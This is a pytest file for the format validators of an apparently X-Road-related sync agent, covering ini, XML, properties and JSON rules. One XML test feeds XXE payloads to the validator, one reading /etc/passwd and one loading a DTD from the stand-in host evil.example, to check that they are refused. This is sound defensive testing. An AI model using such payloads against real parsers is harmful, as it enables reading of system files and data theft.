"""Tests for syncagent.xroad.formats: the pure format rules (ini, XML, properties, JSON)."""

from __future__ import annotations

import pytest
from support.samples import (
    DB_PROPERTIES,
    DEVICES_INI,
    GOOD_TREE,
    JETTY_XML,
    KEYCONF_XML,
    LOCAL_INI,
    LOGBACK_PROPERTIES,
    LOGBACK_XML,
    PROXY_INI,
)

from syncagent.errors import Problem
from syncagent.xroad.formats import (
    IniEntry,
    Rule,
    parse_ini,
    validate_ini,
    validate_json,
    validate_properties,
    validate_xml,
)


@pytest.mark.parametrize(
    ("check", "data"),
    [
        (validate_ini, LOCAL_INI),
        (validate_ini, PROXY_INI),
        (validate_ini, DEVICES_INI),
        (validate_ini, b""),
        (validate_ini, b"[node]\ntype = slave\n"),
        (validate_xml, KEYCONF_XML),
        (validate_xml, LOGBACK_XML),
        (validate_xml, JETTY_XML),
        (validate_properties, DB_PROPERTIES),
        (validate_properties, LOGBACK_PROPERTIES),
        (validate_json, GOOD_TREE["metadata.json"]),
    ],
)
def test_good_content_passes(check: Rule, data: bytes) -> None:
    assert check("f", data) is None


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>',
        b"<!DOCTYPE x [<!ELEMENT x ANY>]><x/>",
        b"<x>&undeclared;</x>",
        b"",
        b"<a>\xff</a>",
    ],
)
def test_xml_with_dtd_subset_entities_or_garbage_is_refused(data: bytes) -> None:
    problem = validate_xml("x.xml", data)
    assert problem is not None and problem.path == "x.xml" and problem.message


# --------------------------------------------------------------------------- INI details


def test_ini_accepts_repeated_keys_sections_and_percent() -> None:
    data = b"[proxy]\na=1\na=2\nfmt=%d{yyyy} ${X} %%\n[signer]\nk=v\n[proxy]\nb : 3\n"
    assert validate_ini("conf.d/local.ini", data) is None


def test_ini_accepts_backslash_continuation() -> None:
    assert (
        validate_ini("conf.d/local.ini", b"[proxy]\nclient-tls-ciphers=A,\\\n  B,\\\n  C\n") is None
    )


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[proxy]\n[]\n", "line 2: empty [section] name: X-Road fails to start"),
        (b"[proxy] trailing\n", "line 1: malformed [section] header"),
    ],
)
def test_ini_rejections(data: bytes, message: str) -> None:
    assert validate_ini("conf.d/local.ini", data) == Problem("conf.d/local.ini", message)


def test_ini_messages_do_not_quote_content() -> None:
    data = LOCAL_INI + b"[messagelog-keystore-password somepassword\n"
    problem = validate_ini("conf.d/local.ini", data)
    assert problem is not None
    assert "somepassword" not in str(problem)


# --------------------------------------------------------------------------- properties


def test_properties_forms_accepted() -> None:
    data = (
        b"# comment\n! bang comment\na=1\nb = 2\nc: 3\nd 4\n"
        b"long = one, \\\n    two\n\xe9t\xe9=latin-1\n[database-properties]\n"
    )
    assert validate_properties("db.properties", data) is None


def test_properties_java_loads_empty_keys_nul_bytes_and_escaped_backslashes() -> None:
    for data in (b"a=1\n=no key\n", b"a=1\n  : no key\n", b"a=1\nb=\x00\n", b"p=C:\\\\u\n"):
        assert validate_properties("db.properties", data) is None, data


def test_ini_as_commons_configuration_reads_it() -> None:
    """Keys before any section, lines without a separator and empty keys all load."""
    data = b"top=1\n[proxy]\nflag\n= value\n"
    assert parse_ini(data) == [
        IniEntry("", "top", "1"),
        IniEntry("proxy", "flag", ""),
        IniEntry("proxy", " ", "value"),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"a=1\nb=\\u12\n", "line 2: malformed \\uxxxx escape"),
        (b"a=1\nb=\\uZZZZ\n", "line 2: malformed \\uxxxx escape"),
        (b"a=\\\n  \\u00e\n", "line 1: malformed \\uxxxx escape"),
    ],
)
def test_properties_rejections(data: bytes, message: str) -> None:
    assert validate_properties("db.properties", data) == Problem("db.properties", message)


# --------------------------------------------------------------------------- JSON


@pytest.mark.parametrize("data", [b"{", b"", b'{"a": 1} x', b'"\xff"'])
def test_json_rejections(data: bytes) -> None:
    problem = validate_json("metadata.json", data)
    assert problem is not None and problem.path == "metadata.json" and problem.message
